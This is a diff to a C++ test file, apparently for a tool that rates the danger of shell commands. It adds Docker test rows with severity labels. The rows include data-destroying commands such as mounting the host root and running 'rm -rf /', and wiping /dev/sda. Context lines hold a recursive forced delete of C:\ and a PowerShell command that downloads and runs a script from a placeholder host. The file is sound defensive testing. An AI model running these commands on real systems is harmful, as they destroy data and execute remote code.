@@ -97,6 +97,11 @@ INSTANTIATE_TEST_SUITE_P(
                       Row{"moderate", "./ls"}, Row{"safe", "/usr/bin/ls"}));
 
 INSTANTIATE_TEST_SUITE_P(
+    Containers, EffectTest,
+    ::testing::Values(Row{"moderate", "docker run --rm alpine rm -rf /usr"}, Row{"critical", "docker run -v /:/host alpine rm -rf /"},
+                      Row{"moderate", "docker run --rm -v $PWD:/src alpine ls /src"}, Row{"critical", "docker run alpine dd if=/dev/zero of=/dev/sda"}));
+
+INSTANTIATE_TEST_SUITE_P(
     Windows, EffectTest,
     ::testing::Values(Row{"critical", "powershell -EncodedCommand AAAA"}, Row{"critical", "pwsh -Command 'rm -Recurse -Force C:\\'"},
                       Row{"critical", "powershell -c \"iex (iwr http://x.example/a.ps1)\""},
